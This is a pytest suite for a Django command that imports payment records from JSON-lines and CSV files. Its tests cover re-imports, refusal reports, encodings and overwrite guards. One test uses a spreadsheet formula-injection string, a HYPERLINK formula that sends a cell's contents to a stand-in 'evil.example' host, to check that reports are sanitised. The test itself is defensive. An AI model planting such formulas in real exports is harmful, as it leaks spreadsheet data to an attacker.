"""`manage.py import_payments`."""

import io
import json
import re
from pathlib import Path
from typing import Any

import pytest
from django.core.management import CommandError, call_command

from hostpay.models import Pause, Switch
from payouts.models import Accumulation, InboundEvent
from tests.factories import ACTOR
from tests.payouts.sending import client, payment, send

pytestmark = pytest.mark.django_db


def run(path: Path, **options: Any) -> str:
    told = io.StringIO()
    call_command("import_payments", str(path), stdout=told, stderr=io.StringIO(), **options)
    return told.getvalue()


def lines_of(*items: Any) -> str:
    return "\n".join(item if isinstance(item, str) else json.dumps(item) for item in items) + "\n"


def written(folder: Path, name: str, text: str, encoding: str = "utf-8") -> Path:
    path = folder / name
    path.write_text(text, encoding=encoding, newline="")
    return path


def test_it_records_the_payments_of_json_lines(tmp_path: Path) -> None:
    client()
    path = written(tmp_path, "export.jsonl", lines_of(payment(), "", payment(payment_id="payment-2")))

    assert run(path) == "2 recorded, 0 recorded before, 0 refused.\n"
    rows = list(Accumulation.objects.order_by("payment_id"))
    assert [(row.source, row.payment_id) for row in rows] == [("import", "payment-1"), ("import", "payment-2")]
    assert (str(rows[0].pending_usd_amount), rows[0].net_wei) == ("24.73500000", 97 * 10**14)
    assert not InboundEvent.objects.exists()
    assert list(tmp_path.iterdir()) == [path]


def test_it_records_the_payments_of_a_table(tmp_path: Path) -> None:
    client()
    text = (
        "payment_id,client_id,user_id,amount_usd,outcome_amount,outcome_currency\r\n"
        "payment-1,client-1,7,25.50,0.01,eth\r\n"
        '"payment-2",client-1,7,"10.00",,\r\n'
    )

    # With the mark that spreadsheets put first.
    assert run(written(tmp_path, "payments.csv", text, "utf-8-sig")).startswith("2 recorded")
    second = Accumulation.objects.get(payment_id="payment-2")
    assert (str(second.gross_usd), second.net_wei, second.outcome_currency) == ("10.00000000", None, "")


def test_the_same_file_again_changes_nothing(tmp_path: Path) -> None:
    client()
    path = written(tmp_path, "export.jsonl", lines_of(payment()))
    run(path)

    assert run(path) == "0 recorded, 1 recorded before, 0 refused.\n"
    assert Accumulation.objects.count() == 1


def test_it_goes_on_where_it_was_interrupted(tmp_path: Path) -> None:
    client()
    items = [payment(payment_id=f"payment-{number}") for number in range(2500)]
    run(written(tmp_path, "first.jsonl", lines_of(*items[:1700])))

    whole = written(tmp_path, "whole.jsonl", lines_of(*items))

    assert run(whole) == "800 recorded, 1700 recorded before, 0 refused.\n"
    assert Accumulation.objects.count() == 2500


def test_what_was_sent_and_is_imported_under_its_source_is_one_payment(tmp_path: Path) -> None:
    client()
    send(payment())

    assert run(written(tmp_path, "export.jsonl", lines_of(payment())), source="api").startswith("0 recorded, 1 rec")
    assert Accumulation.objects.count() == 1


def test_it_says_which_lines_were_refused_and_why(tmp_path: Path) -> None:
    client()
    path = written(
        tmp_path,
        "export.jsonl",
        lines_of(
            payment(), "{", payment(payment_id="x", client_id="nobody"), payment(amount_usd="30"),
            '{"payment_id": "y", "payment_id": "z"}', payment(payment_id="good"),
        ),
    )  # fmt: skip

    with pytest.raises(CommandError, match="4 lines were refused"):
        run(path)

    report = [json.loads(line) for line in (tmp_path / "export.jsonl.refused.jsonl").read_text().splitlines()]
    assert [(line["line"], line["code"]) for line in report] == [
        (2, "invalid_json"),
        (3, "unknown_client"),
        (4, "conflicting_payment"),
        (5, "invalid_json"),
    ]
    assert "nobody" in report[1]["why"]
    assert set(Accumulation.objects.values_list("payment_id", flat=True)) == {"payment-1", "good"}


def test_f73_its_report_opened_as_a_table_holds_no_formula(tmp_path: Path) -> None:
    evil = '=HYPERLINK("http://evil.example/"&A1),@SUM(1)'
    path = written(tmp_path, "payments.jsonl", lines_of(payment(client_id=evil)))

    with pytest.raises(CommandError, match="1 line"):
        run(path)

    text = (tmp_path / "payments.jsonl.refused.jsonl").read_text()
    assert evil[:10] in json.loads(text)["why"]
    assert not [cell for cell in re.split(r'[,;"]', text) if cell.strip().startswith(("=", "+", "-", "@"))]


def test_a_row_with_too_many_or_too_few_cells_is_refused(tmp_path: Path) -> None:
    client()
    text = "payment_id,client_id,user_id,amount_usd\na,client-1,7,5\nb,client-1,7\nc,client-1,7,5,5\n"

    with pytest.raises(CommandError, match="2 lines"):
        run(written(tmp_path, "payments.csv", text), report=tmp_path / "refused.jsonl")

    assert [json.loads(line)["line"] for line in (tmp_path / "refused.jsonl").read_text().splitlines()] == [3, 4]
    assert Accumulation.objects.get().payment_id == "a"


@pytest.mark.parametrize("header", ["payment_id,amount", "payment_id,payment_id", ""])
def test_a_table_must_name_fields(tmp_path: Path, header: str) -> None:
    with pytest.raises(CommandError, match="first line must name fields"):
        run(written(tmp_path, "payments.csv", f"{header}\n1,2\n" if header else ""))


def test_it_says_that_a_file_cannot_be_read(tmp_path: Path) -> None:
    with pytest.raises(CommandError, match="cannot be read"):
        run(tmp_path)


@pytest.mark.parametrize("name", ["latin.jsonl", "latin.csv"])
def test_a_line_in_another_encoding_is_refused_alone(tmp_path: Path, name: str) -> None:
    client()
    bad, good = payment(payment_id="bad", user_id="Jäger"), [payment(payment_id=f"good-{at}") for at in range(3)]
    items = [good[0], bad, *good[1:]]
    if name.endswith(".csv"):
        text = "\n".join([",".join(bad), *(",".join(item.values()) for item in items)])
    else:
        text = "\n".join(json.dumps(item, ensure_ascii=False) for item in items)

    with pytest.raises(CommandError, match="1 lines were refused"):
        run(written(tmp_path, name, text, "latin-1"))

    (line,) = (tmp_path / f"{name}.refused.jsonl").read_text().splitlines()
    told = json.loads(line)
    assert (told["line"], told["code"]) == (3 if name.endswith(".csv") else 2, "invalid_json")
    assert "not UTF-8" in told["why"]
    assert sorted(Accumulation.objects.values_list("payment_id", flat=True)) == ["good-0", "good-1", "good-2"]


def test_a_cell_of_many_pages_is_refused_alone(tmp_path: Path) -> None:
    client()
    rows = ["payment_id,client_id,user_id,amount_usd", f"a,client-1,{'7' * 200_000},5", "b,client-1,7,5"]

    with pytest.raises(CommandError, match="1 lines were refused"):
        run(written(tmp_path, "payments.csv", "\n".join(rows)))

    assert Accumulation.objects.get().payment_id == "b"


def test_what_came_before_a_line_that_ends_the_table_is_recorded(tmp_path: Path) -> None:
    client()
    rows = ["payment_id,client_id,user_id,amount_usd", "a,client-1,7,5", 'b,client-1,"7"x,5', "c,client-1,7,5"]

    with pytest.raises(CommandError, match=r"after line 2 is no table any more.*What came before is recorded"):
        run(written(tmp_path, "payments.csv", "\n".join(rows)))

    assert Accumulation.objects.get().payment_id == "a"


def test_a_report_is_of_this_run_and_never_written_over_the_file(tmp_path: Path) -> None:
    client()
    path = written(tmp_path, "export.jsonl", lines_of(payment()))
    report = written(tmp_path, "export.jsonl.refused.jsonl", '{"line": 7, "code": "unknown_client", "why": "x"}\n')

    with pytest.raises(CommandError, match="would be written over"):
        run(path, report=path)
    run(path)

    assert path.read_text() == lines_of(payment())
    assert not report.exists()


def test_a_report_is_not_written_over_what_is_none(tmp_path: Path) -> None:
    client()
    path = written(tmp_path, "export.jsonl", lines_of(payment()))
    books = written(tmp_path, "books-of-2025.csv", "line,code\n")

    with pytest.raises(CommandError, match=r"books-of-2025\.csv stands there already and is no report"):
        run(path, report=books)

    assert books.read_text() == "line,code\n"
    assert not Accumulation.objects.exists()
    run(path, report=written(tmp_path, "empty", ""))
    assert Accumulation.objects.exists()


def test_nothing_is_imported_while_the_intake_is_paused(tmp_path: Path) -> None:
    client()
    Pause.objects.create(switch=Switch.INTAKE, reason="repair", actor=str(ACTOR))

    with pytest.raises(CommandError, match="0 lines were done"):
        run(written(tmp_path, "export.jsonl", lines_of(payment())))
    assert not Accumulation.objects.exists()


def test_a_payment_of_a_file_whose_client_is_missing_is_not_said_to_be_kept(tmp_path: Path) -> None:
    path = written(tmp_path, "export.jsonl", lines_of(payment(client_id="shop-7")))

    with pytest.raises(CommandError, match="1 lines were refused"):
        run(path)

    (line,) = (tmp_path / "export.jsonl.refused.jsonl").read_text(encoding="utf-8").splitlines()
    assert json.loads(line)["why"] == "No client has the id shop-7. Add the client, and import the file again."
    assert not InboundEvent.objects.exists()


def test_a_file_that_is_not_there_is_said_not_to_be_there(tmp_path: Path) -> None:
    with pytest.raises(CommandError, match=r"^There is no file .*nothing\.csv\.$"):
        run(tmp_path / "nothing.csv")
